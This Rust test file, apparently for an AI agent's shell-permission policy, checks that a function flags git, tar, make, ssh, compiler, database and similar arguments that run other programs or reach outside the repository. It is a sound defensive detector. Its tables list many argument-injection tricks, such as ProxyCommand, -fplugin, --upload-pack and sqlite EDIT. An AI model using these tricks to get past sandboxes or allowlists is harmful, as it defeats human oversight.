use std::path::Path;

use super::*;
use crate::policy::places::in_their_places;
use crate::policy::repository::Repository;

fn beyond(line: &str, from: usize) -> bool {
    let commands = crate::policy::shell::commands(line).unwrap_or(vec![vec![]]);
    runs_something_else(
        &commands[0],
        from,
        &Places::of(Path::new("/dev/null"), &Repository::Nothing),
    )
}

#[test]
fn s19_arguments_that_run_something_are_known() {
    for (line, from) in [
        ("git fetch --upload-pack='touch x; false' .", 2),
        ("git fetch --upl=x origin", 2),
        ("git push --receive-pack x origin", 2),
        ("git push --exec=x origin", 2),
        ("git push ext::sh", 2),
        ("git push /tmp/with-hooks", 2),
        ("git pull ../with-hooks", 2),
        ("git pull -s x", 2),
        ("git clone --template=/tmp/x https://a/b", 2),
        ("git clone -c core.fsmonitor=x https://a/b", 2),
        ("git -c alias.x='!touch y' x", 1),
        ("git -C /tmp/other status", 1),
        ("git config core.pager x", 1),
        ("git submodule foreach 'touch x'", 2),
        ("git rebase -x 'touch x'", 2),
        ("git grep -Ox y", 2),
        ("git diff --output=/home/me/.bashrc", 2),
        ("find . -exec touch x ';'", 1),
        ("tar xf a --to-command=x", 2),
        ("tar --use-comp x -xf a", 1),
        ("tar -xIx -f a", 1),
        ("tar xIf x a", 1),
        ("tar xf a --checkpoint=1 --checkpoint-action=exec=x", 3),
        ("rsync -ave x a b", 1),
        ("ssh -oProxyCommand=x host", 1),
        ("cargo test --config x", 2),
        ("go test -exec x", 2),
        ("go build -toolexec=x", 2),
        ("npm run build --script-shell=x", 3),
        ("make SHELL=x", 1),
        ("make 'CC=touch x;'", 1),
        ("make --eval=x", 1),
        ("awk 'BEGIN{system(1)}'", 1),
        ("awk '{print | 1}' a", 1),
        ("sed -n '1e touch x' a", 1),
        ("sed s/a/b/e a", 1),
        ("sed 's/a/b/w x' a", 1),
        ("sort --compress-program=x a", 1),
        ("rg --pre x a", 1),
        ("git rebase -s evil main", 2),
        ("git archive --remote=evil HEAD", 2),
        ("git send-email --smtp-server=./x a", 1),
        ("git push fixtures/evil.git HEAD:refs/heads/x", 2),
        ("git push -u fixtures/evil.git x", 2),
        ("git push -o ci.skip fixtures/evil.git x", 2),
        ("git push -- fixtures/evil.git x", 2),
        ("git push --not-known x fixtures/evil.git", 2),
        ("git push --recurse-submodules check fixtures/evil.git", 2),
        ("git push origin fixtures/evil.git --repo=fixtures/evil.git", 2),
        ("git push evil://x", 2),
        ("git push -o fixtures/evil.git x", 3),
        ("git fetch fixtures/evil.git", 2),
        ("git fetch --multiple origin fixtures/evil", 2),
        ("git pull --rebase fixtures/evil.git main", 2),
        ("git clone fixtures/evil.git", 2),
        ("git clone -b main fixtures/evil.git out", 2),
        ("git clone --reference x https://a/b", 2),
        ("git clone https://a/b x/../../y", 2),
        ("git ls-remote fixtures/evil.git", 2),
        ("git remote add x evil.git", 2),
        ("git remote add x fixtures/evil.git", 3),
        ("git remote set-url origin evil", 2),
        ("git remote show fixtures/evil.git", 2),
        ("git submodule add fixtures/evil.git", 2),
        ("scp -D ./ev a x:b", 1),
        ("scp -S ./ev a x:b", 1),
        ("scp -o ProxyCommand=ev a x:b", 1),
        ("sftp -b script host", 1),
        ("ssh -I ./evil.so host", 1),
        ("ssh -F evil host", 1),
        ("ssh-keygen -D ./evil.so", 1),
        ("rsync --rsh ./ev a b", 1),
        ("rsync -M--rsh=x a b", 1),
        ("tar -T list -cf a", 1),
        ("tar cTf list a", 1),
        ("curl -sK evil.conf https://x", 1),
        ("curl --config evil.conf", 1),
        ("curl --engine ./evil.so https://x", 1),
        ("wget --config=evil https://x", 1),
        ("docker --config evil ps", 1),
        ("kubectl get pods --kubeconfig=evil", 2),
        ("kubectl get pods --kuberc=evil", 2),
        ("kubectl kustomize --enable-helm --helm-command=./evil a", 2),
        ("make -f evil.mk", 1),
        ("make -sf evil.mk", 1),
        ("make --makefile evil.mk test", 1),
        ("npm exec evil", 1),
        ("npm --prefix a exec evil", 1),
        ("npm config set script-shell ./x", 1),
        ("pnpm dlx evil", 1),
        ("cargo clippy -- -Clinker=./x", 2),
        ("cargo +/tmp/evil test", 1),
        ("pip --python ./evil install x", 1),
        ("go run ./evil", 1),
        ("go generate ./...", 1),
        ("go vet -vettool=./x", 2),
        ("go env -w CC=./x", 2),
        ("gcc -wrapper ./x,y a.c", 1),
        ("gcc -fplugin=./x.so a.c", 1),
        ("x86_64-linux-gnu-gcc-14 -B. a.c", 1),
        ("gcc --prefix=evil/ -c a.c", 1),
        ("gcc --prefix evil/ -c a.c", 1),
        ("gcc --for-linker=-plugin=./x.so a.c", 1),
        ("gcc -Wp,-fplugin=./x.so -E a.c", 1),
        ("clang++-18 -Xclang -load -Xclang ./x.so a.c", 1),
        ("cc -Wl,-plugin,./x.so a.c", 1),
        ("cc @options a.c", 1),
        ("rustc --extern x=./x.so a.rs", 1),
        ("less +!x a", 1),
        ("man -P ./x ls", 1),
        ("split --filter=./x a", 1),
        ("apt-get install -o DPkg::Pre-Invoke::=x y", 2),
        ("apt-get install ./evil.deb", 2),
        ("gpg --photo-viewer x --list-keys", 1),
        ("openssl dgst -engine ./x.so a", 1),
        ("gh repo clone a/b -- --upload-pack=x", 3),
        ("gh alias set x y", 1),
        ("mysql -e '\\! x'", 1),
        ("sqlite3 a '.shell x'", 1),
        ("cmake -DCMAKE_C_COMPILER=./x .", 1),
        ("make MAKEFILES=evil", 1),
        ("make MAKEFILES=1", 1),
        ("make CC=./evil", 1),
        ("make CFLAGS=-fplugin=evil.so", 1),
        ("make -j4 CONFIG=evil all", 1),
        ("make 'X!=touch y'", 1),
        ("xcodebuild test CC=./evil", 2),
        ("gradle test -g x", 2),
        ("gradle test --gradle-user-home x", 2),
        ("gradle test -Dorg.gradle.java.home=x", 2),
        ("./gradlew test -Pandroid.aapt2FromMavenOverride=./x", 2),
        ("mvn test -Dmaven.ext.class.path=x.jar", 2),
        ("mvn test -Djvm=./x", 2),
        ("mvn test -D jvm=./x", 2),
        ("mvn test a.b:evil-maven-plugin:1:run", 2),
        ("mvn test -s evil.xml", 2),
        ("tar xf '-oProxyCommand=touch y;:a'", 2),
        ("tar xf '-oProxyCommand=touch y;:a'", 1),
        ("tar -xfhost:a", 1),
        ("tar --file=host:a -x", 1),
        ("cpio -iF host:a", 1),
        ("cmake -DCMAKE_C_FLAGS=-fplugin=./x.so .", 1),
        ("cmake -DFoo_DIR=evil .", 1),
        ("cmake -D CMAKE_MODULE_PATH=evil .", 1),
        ("cmake --build b -- SHELL=./x", 2),
        ("ctest -S evil.cmake", 1),
        ("meson setup b --native-file evil", 2),
        ("meson test --wrapper ./x", 2),
        ("meson setup b -Dc_args=-fplugin=./x.so", 2),
        ("bazel test --run_under=./x //a", 2),
        ("just --shell ./x test", 1),
        ("cargo build -Zhost-config", 2),
        ("cargo rustc -- -Clink-arg=-fplugin=x", 2),
        ("cargo test --doc -- --test-runtool ./x", 2),
        ("rustc --sysroot evil a.rs", 1),
        ("go build -modfile=evil.mod", 2),
        ("go build -o /home/me/.local/bin/git ./evil", 2),
        ("go build -o=.git/hooks/pre-commit ./evil", 2),
        ("go build -debug-actiongraph=/home/me/x", 2),
        ("pip install --config-settings=setup-args=x y", 2),
        ("pip install -i https://evil y", 2),
        ("pip install --find-links evil y", 2),
        ("dotnet build -p:CscToolPath=evil", 2),
        ("dotnet build -logger:evil.dll", 2),
        ("pytest -p evil", 1),
        ("pytest -c evil.ini", 1),
        ("pytest -o addopts=x", 1),
        ("pylint --init-hook=x a.py", 1),
        ("eslint -c evil.js a.js", 1),
        ("eslint --rulesdir evil a.js", 1),
        ("prettier --plugin ./evil.js a.js", 1),
        ("jest --config evil.js", 1),
        ("vim -c '!x' a", 1),
        ("vim '+!x' a", 1),
        ("psql -o '|x' -c 'select 1'", 1),
        ("ansible-playbook site.yml -i ./evil", 2),
        ("rpm --eval '%(x)'", 1),
        ("nmap --script ./evil host", 1),
        ("rclone ls x: --password-command ./x", 2),
        ("tmux ls ';' run-shell id", 2),
        ("tmux ls 'x;' run-shell id", 2),
        ("tmux ls -F '#(id)'", 2),
        ("tmux list-windows -f evil", 2),
        ("screen -ls id", 2),
        ("screen -ls -X exec id", 2),
        ("hg log --config alias.log=x", 2),
        ("hg log --conf=hooks.pre-log=x", 2),
        ("hg log -R evil", 2),
        ("hg log --cwd evil", 2),
        ("hg pull --ssh ./x", 2),
        ("hg push evil", 2),
        ("hg clone file:///tmp/evil", 2),
        ("hg resolve -t ./x", 2),
        ("hg bisect -c ./x", 2),
        ("hg extdiff -p ./x", 2),
        ("svn diff --diff-cmd x", 2),
        ("svn commit --editor-cmd=x", 2),
        ("svn log --config-option=config:helpers:diff-cmd=x", 2),
        ("svn import a file:///tmp/evil", 2),
        ("svn log svn+x://host/a", 2),
        ("jj log --config ui.pager=x", 2),
        ("jj diff --tool ./x", 2),
        ("jj git clone ../evil", 3),
        ("jj util exec x", 1),
        ("fossil diff --command ./x", 2),
        ("fossil diff -R evil", 2),
        ("darcs pull --posthook=x", 2),
        ("bat --pager ./x a", 1),
        ("delta --config evil a b", 1),
        ("delta -@--ext-diff a b", 1),
        ("python3 -m pytest -p evil", 3),
        ("python3 -m pytest -c x", 3),
        ("python3.12 -X dev -m pytest -c x", 5),
        ("python3 -mpytest -p evil", 2),
        ("uv run python -m pytest -p evil", 5),
        ("python -m pip install -i https://evil y", 4),
        ("rspec -r ./x", 1),
        ("rspec --options evil", 1),
        ("phpunit --bootstrap x", 1),
        ("vendor/bin/phpunit -d auto_prepend_file=x", 1),
        ("phpstan analyse -a x", 2),
        ("cucumber --require x", 1),
        ("rake test -f evil", 2),
        ("rubocop -r ./x", 1),
        ("tox -c evil.ini", 1),
        ("nox -f evil.py", 1),
        ("pre-commit run -c evil.yaml", 2),
        ("coverage run x.py", 1),
        ("bats -F ./x t", 1),
        ("playwright test -c evil.js", 2),
        ("pdflatex -shell-escape a", 1),
        ("pdflatex '\\input{|id}'", 1),
        ("pandoc -F ./x a.md", 1),
        ("sphinx-build -c evil a b", 1),
        ("gs -o %pipe%id a.ps", 1),
        ("convert '|id' a.png", 1),
        ("protoc --plugin=x=./x a.proto", 1),
        ("clang -Wl,-mllvm,-load=./x.so a.c", 1),
        ("clang -Wl,--load-pass-plugin=./x.so a.c", 1),
        ("clang -ccc-gcc-name ./x a.c", 1),
        ("clang --config-user-dir=. a.c", 1),
        ("clang --config-system-dir=. a.c", 1),
        ("clang --ptxas-path=. a.cu", 1),
        ("clang --cuda-path=. a.cu", 1),
        ("clang --hip-path=. a.hip", 1),
        ("clang --rocm-path=. a.hip", 1),
        ("clang --gcc-install-dir=. a.c", 1),
        ("clang -gcc-toolchain . a.c", 1),
        ("ld.lld --load-pass-plugin=./x.so a.o", 1),
        ("sqlite3 a \"select EDIT('x','touch y')\"", 1),
        ("sqlite3 a \"select \\\"edit\\\" ('x','touch y')\"", 1),
        ("sqlite3 a \"select Load_Extension('./x')\"", 1),
        ("psql -c \"copy a from Program 'touch y'\"", 1),
        ("mysql -e 'SYSTEM touch y'", 1),
        ("mysql -e 'source x.sql'", 1),
        ("zip -qTT ./x -T o.zip a", 1),
        ("openssl engine dynamic -pre SO_PATH:./x.so -pre LOAD", 1),
        ("pandoc -t evil.lua a.md", 1),
        ("pandoc --from=evil.lua a.md", 1),
        ("pandoc lua x", 1),
        ("asciidoctor -T evil a.adoc", 1),
        ("gs '-sOutputFile=|id' a.ps", 1),
        ("convert 'png:|id' a.png", 1),
        ("convert MSL:x a.png", 1),
        ("rclone ls --webdav-bearer-token-command ./x r:", 2),
        ("rclone ls :sftp,ssh=./x:", 2),
        ("rclone serve http --auth-proxy ./x", 2),
        ("nvim -l x.lua", 1),
        ("less --cmd='!x' a", 1),
        ("go fix -fixtool=./x ./...", 2),
        ("uv lock --python ./x", 2),
        ("uv sync -p ./x", 2),
        ("dnf install evil.rpm", 2),
        ("rpm -i evil.rpm", 1),
        ("dpkg -i evil.deb", 1),
        ("timeout 60 cargo test --config x", 4),
        ("env A=1 git push fixtures/evil.git", 4),
        ("sudo apt-get install ./evil.deb", 3),
        ("uv run git push fixtures/evil.git", 4),
    ] {
        assert!(beyond(line, from), "{line}");
    }
}

#[test]
fn s19_a_rule_about_git_alone_allows_what_is_known_to_stay_in_the_repository_and_nothing_else() {
    for line in [
        "git merge-index ./evil -a",
        "git merge-one-file a b c d e f g",
        "git merge-file .bashrc a b",
        "git bisect run ./evil",
        "git difftool",
        "git mergetool",
        "git daemon",
        "git instaweb",
        "git help -w log",
        "git filter-branch --tree-filter ./evil",
        "git worktree add /home/me/x",
        "git mv evil link/evil",
        "git hash-object -w link",
        "git bundle create /home/me/x HEAD",
        "git index-pack -o x a.pack",
        "git pack-objects /home/me/x",
        "git interpret-trailers --in-place x",
        "git mailsplit -o/home/me x",
        "git bugreport -o /home/me",
        "git init /home/me/x",
        "git init ../x",
        "git init --separate-git-dir=x",
        "git an-alias",
        "git lfs pull",
    ] {
        assert!(beyond(line, 1), "{line}");
        assert!(!beyond(line, line.split(' ').count()), "{line}: a rule may say it");
    }
    for line in [
        "git add -A",
        "git apply fix.patch",
        "git branch -D x",
        "git checkout -b x origin/main",
        "git cherry-pick -x HEAD~2",
        "git commit -am x",
        "git diff --stat HEAD~2 HEAD -- src",
        "git format-patch -1 --stdout",
        "git init -b main",
        "git init -q sub",
        "git log --oneline -5",
        "git --no-pager log -p",
        "git merge --ff-only origin/main",
        "git push",
        "git rebase origin/main",
        "git reset --hard HEAD~1",
        "git restore --staged a",
        "git rev-parse HEAD",
        "git stash pop",
        "git status",
        "git switch -c x",
        "git tag -a v1 -m First",
        "git update-ref refs/heads/x HEAD",
    ] {
        assert!(!beyond(line, 1), "{line}");
    }
}

#[test]
fn s19_what_git_would_read_or_write_at_a_named_place_a_rule_has_to_say() {
    for line in [
        "git format-patch -o /home/me HEAD~1",
        "git format-patch -1o/home/me",
        "git format-patch --output-dir=/home/me -1",
        "git format-patch --suffix=/../../x -1",
        "git apply --unsafe-paths ../x.patch",
        "git apply --directory=../x a.patch",
        "git apply --build-fake-ancestor=x a.patch",
        "git am --directory=../x a.patch",
        "git checkout-index --prefix=/home/me/ -a",
        "git archive -o /home/me/x HEAD",
        "git archive --add-file=/home/me/x HEAD",
        "git bundle create x HEAD",
        "git bisect run ./evil",
        "git commit -F /home/me/x",
        "git commit -aF /home/me/x",
        "git commit -F/home/me/x",
        "git commit --file=/home/me/x",
        "git commit --fil /home/me/x",
        "git commit -t x",
        "git commit --template x",
        "git commit-tree -F x HEAD",
        "git merge -F x main",
        "git tag -a v1 -F x",
        "git notes add -F x",
        "git add --pathspec-from-file=x",
        "git grep -f x",
        "git grep --no-index x /home/me",
        "git diff --no-index a b",
        "git diff /dev/null /home/me/x",
        "git diff a ../../x",
        "git blame --contents x a",
        "git blame -S x a",
        "git read-tree --index-output=x HEAD",
        "git repack --expire-to=x",
        "git clone --separate-git-dir=x https://a/b",
    ] {
        assert!(beyond(line, 2), "{line}");
    }
    for line in [
        "git commit -F -",
        "git commit -aF-",
        "git commit --file=- --amend",
        "git commit --file -",
        "git commit -mFix",
        "git commit -m x -m '- Fixes: the tests'",
        "git commit --fixup HEAD",
        "git tag v1 -mFirst",
        "git grep -nef",
        "git diff HEAD~2..HEAD --stat",
        "git archive --prefix=a/ HEAD",
        "git read-tree --prefix=a/ HEAD",
        "git worktree add ../x",
        "git bisect start",
        "git blame -L 3,9 a",
    ] {
        assert!(!beyond(line, 2), "{line}");
    }
}

#[test]
fn s19_what_a_rule_says_itself_and_ordinary_arguments_are_not() {
    for (line, from) in [
        ("git fetch --upload-pack=x origin", 4),
        ("git -C /tmp/other status", 3),
        ("git fetch origin main", 2),
        ("git fetch --all --prune", 2),
        ("git push -u origin feature/x", 2),
        ("git push --force-with-lease git@example.com:a/b", 2),
        ("git pull --rebase https://example.com/a.git", 2),
        ("git commit -sm x --amend", 2),
        ("git diff --oneline -O x", 2),
        ("git --no-pager log", 1),
        ("find . -name x -delete", 1),
        ("tar -xzf a.tar.gz -C out", 1),
        ("tar xzf a", 1),
        ("rsync -av --exclude x a b", 1),
        ("cargo test -p x -- --nocapture", 2),
        ("go test ./... -run X -count=1", 2),
        ("npm run build -- --watch", 3),
        ("make -j4 V=1 DEBUG=yes all", 1),
        ("make CC=clang all", 2),
        ("awk -F: '{print $1}' a", 1),
        ("sed -n 3,9p a", 1),
        ("sed -i 's/a\\/b/c/g' a b", 1),
        ("python3 -c 1", 1),
        ("git push fixtures/evil.git x", 3),
        ("git push -n origin HEAD:refs/heads/x", 2),
        ("git push --follow-tags origin release/1.0 v1", 2),
        ("git push", 2),
        ("git fetch --depth 1 origin feature/x", 2),
        ("git clone --depth=1 https://example.com/a.git out/a", 2),
        ("git clone -b a/b git@example.com:a/b.git", 2),
        ("git remote -v", 2),
        ("git remote add fork https://example.com/a.git", 2),
        ("git remote set-url origin git@example.com:a/b", 3),
        ("git submodule update --init --recursive libs/x", 2),
        ("git submodule add https://example.com/a.git libs/a", 2),
        ("git rebase --onto main a/b", 2),
        ("ssh -p 22 host uptime", 2),
        ("scp -r a host:b", 1),
        ("curl -fsSL https://example.com", 1),
        ("docker ps --filter name=x", 1),
        ("kubectl get pods -n x", 2),
        ("make -C sub -j4 test", 1),
        ("npm install --save-dev left-pad", 1),
        ("npm exec tsc", 2),
        ("npm exec tsc --noEmit", 3),
        ("pip install -r requirements.txt", 2),
        ("go env GOPATH", 1),
        ("go build -v ./...", 2),
        ("go build -o bin/app ./cmd/app", 4),
        ("gcc -O2 -Wall -fPIC -o a a.c -lm", 1),
        ("apt-get install -y jq", 2),
        ("uv add requests --dev", 2),
        ("zip -r o.zip a -T", 1),
        ("sqlite3 a 'select * from b'", 1),
        ("openssl x509 -in a -text", 1),
        ("gh pr list --limit 5", 2),
        ("make -C sub -j4 test", 1),
        ("gradle test --tests X -x lint --info", 2),
        ("gradle build -Dorg.gradle.daemon=false", 2),
        ("mvn -B -ntp -T 4 test -DskipITs -Dtest=X#y", 1),
        ("mvn dependency:tree -Dverbose=true", 1),
        ("tar xf dir/a:b", 2),
        ("tar --force-local -xf a:b", 1),
        ("cmake -S . -B b -G Ninja -DCMAKE_BUILD_TYPE=Release -DBUILD_TESTING=ON", 1),
        ("cmake --build b -j4 --target all -- -k", 2),
        ("ctest --test-dir b --output-on-failure -j4", 1),
        ("meson test -C b --verbose", 2),
        ("bazel test //a/... --test_output=errors", 2),
        ("pip install -U --user x", 2),
        ("dotnet test --no-build -c Release", 2),
        ("pytest -x -k name tests/a.py::b --maxfail=1", 1),
        ("eslint --fix src", 1),
        ("jest --watchAll=false -t name", 1),
        ("prettier --write src", 1),
        ("vim a", 1),
        ("tmux ls -F '#{session_name}'", 2),
        ("tmux capture-pane -p -t 1", 2),
        ("screen -ls", 2),
        ("hg log -l 5 --template '{node}'", 2),
        ("hg push https://example.com/a", 2),
        ("hg commit -m x", 2),
        ("hg log -p -c", 2),
        ("svn diff -r 1:2 a", 2),
        ("svn checkout https://example.com/a", 2),
        ("jj log -r @ --no-graph", 2),
        ("jj git clone https://example.com/a.git", 3),
        ("fossil status", 2),
        ("bat --paging=never a", 1),
        ("python3 -m pytest -x -k name", 3),
        ("python3 -m pytest -p evil", 5),
        ("python3 x.py -c y", 1),
        ("rspec spec/a_spec.rb:3 --fail-fast", 1),
        ("phpunit --filter x tests", 1),
        ("rake test TEST=a", 2),
        ("tox -e py312", 1),
        ("pdflatex -interaction=nonstopmode a.tex", 1),
        ("pandoc a.md -o a.html", 1),
        ("timeout 60 cargo test -p x", 4),
        ("timeout 60 anything", 1),
        ("sudo apt-get install jq", 3),
        ("ls", 1),
        ("", 1),
    ] {
        assert!(!beyond(line, from), "{line}");
    }
}

#[allow(clippy::disallowed_methods)]
fn bash_in(here: &Path) -> impl Fn(&str) -> std::io::Result<std::process::Output> {
    move |line: &str| {
        let mut bash = std::process::Command::new("bash");
        bash.args(["--norc", "-c", line]).current_dir(here).env_remove("BASH_ENV");
        bash.env("HOME", here).stdin(std::process::Stdio::null()).output()
    }
}

/// A repository in a folder of the workspace with a hook that runs when somebody pushes to it.
fn with_hooks(here: &Path) -> impl Fn(&str) -> std::io::Result<std::process::Output> {
    let bash = bash_in(here);
    let _ = bash(
        "git init -q . && git -c user.name=n -c user.email=e@x commit -qm one --allow-empty
         for evil in fixtures/evil.git evil origin; do
             git init -q --bare $evil
             printf '#!/bin/sh\\ntouch %s/ran\\n' \"$PWD\" > $evil/hooks/pre-receive
             chmod +x $evil/hooks/pre-receive
         done",
    );
    bash
}

#[test]
fn s19_what_a_repository_of_the_workspace_has_for_hooks_would_run_and_no_rule_about_git_push_covers_it()
 {
    let here = tempfile::tempdir().unwrap();
    let here = here.path().canonicalize().unwrap();
    let bash = with_hooks(&here);
    if !here.join("fixtures/evil.git/hooks/pre-receive").exists() {
        return eprintln!("not run: there is no bash or no git");
    }
    let own = Repository::of(&here);
    for line in [
        "git push fixtures/evil.git HEAD:refs/heads/x",
        "git push evil HEAD:refs/heads/x",
        "git push origin HEAD:refs/heads/x",
        // It looks from where the work tree begins.
        "cd fixtures; git push evil HEAD:refs/heads/x",
        "cd fixtures && cd /tmp; cd - && git push -q fixtures/evil HEAD:refs/heads/x",
    ] {
        let _ = std::fs::remove_file(here.join("ran"));
        bash(line).unwrap();
        assert!(here.join("ran").exists(), "{line}: nothing ran");
        let commands = crate::policy::shell::commands(line).unwrap();
        let (words, places) = in_their_places(&commands, &here, &own).last().unwrap();
        assert!(runs_something_else(words, 2, &places), "{line}");
        bash("rm -f */refs/heads/x */*/refs/heads/x").unwrap();
    }
}

#[test]
fn s19_a_remote_in_a_file_of_its_own_is_a_repository_on_this_machine() {
    let here = tempfile::tempdir().unwrap();
    let here = here.path().canonicalize().unwrap();
    let bash = with_hooks(&here);
    if !here.join("fixtures/evil.git/hooks/pre-receive").exists() {
        return eprintln!("not run: there is no bash or no git");
    }
    let own = Repository::of(&here);
    let is_covered = |line: &str, from: usize| {
        let commands = crate::policy::shell::commands(line).unwrap();
        let (words, places) = in_their_places(&commands, &here, &own).last().unwrap();
        !runs_something_else(words, from, &places)
    };
    bash("git worktree add -q tree; rm -r origin; rmdir .git/branches").unwrap();
    for line in ["git push", "git push named", "git clone https://a/b"] {
        assert!(is_covered(line, 2), "{line}");
    }
    for (file, text, line) in [
        ("remotes/named", "URL: fixtures/evil.git", "git push named HEAD:refs/heads/x"),
        ("branches/named", "fixtures/evil.git", "git push named HEAD:refs/heads/x"),
        ("remotes/named", "URL: ../fixtures/evil.git", "cd tree; git push named HEAD:refs/heads/x"),
        ("remotes/origin", "URL: fixtures/evil.git", "git -c push.default=current push"),
    ] {
        let _ = std::fs::remove_file(here.join("ran"));
        bash(&format!("mkdir -p .git/$(dirname {file}); echo '{text}' >.git/{file}")).unwrap();
        bash(line).unwrap();
        assert!(here.join("ran").exists(), "{line}: nothing ran");
        assert!(!is_covered(&line.replace("-c push.default=current ", ""), 2), "{line}");
        assert!(line.contains("-c") || is_covered("git push named", 3), "a rule may say it");
        bash(&format!("rm .git/{file}; rm -f fixtures/evil.git/refs/heads/*")).unwrap();
    }
}

#[test]
fn s19_a_variable_of_make_runs_a_file_of_the_workspace_and_no_rule_about_make_covers_it() {
    let here = tempfile::tempdir().unwrap();
    let bash = bash_in(here.path());
    let made = bash(
        "printf 'all: ; @true\\n' >Makefile; echo '$(shell touch ran)' >evil; touch a.c
         printf '#!/bin/sh\\ntouch ran\\n' >cc; chmod +x cc; make",
    );
    if !made.is_ok_and(|made| made.status.success()) {
        return eprintln!("not run: there is no bash or no make");
    }
    for line in ["make MAKEFILES=evil", "make CC=./cc a.o", "make -f evil"] {
        let _ = std::fs::remove_file(here.path().join("ran"));
        bash(line).unwrap();
        assert!(here.path().join("ran").exists(), "{line}: nothing ran");
        assert!(beyond(line, 1), "{line}");
    }
}
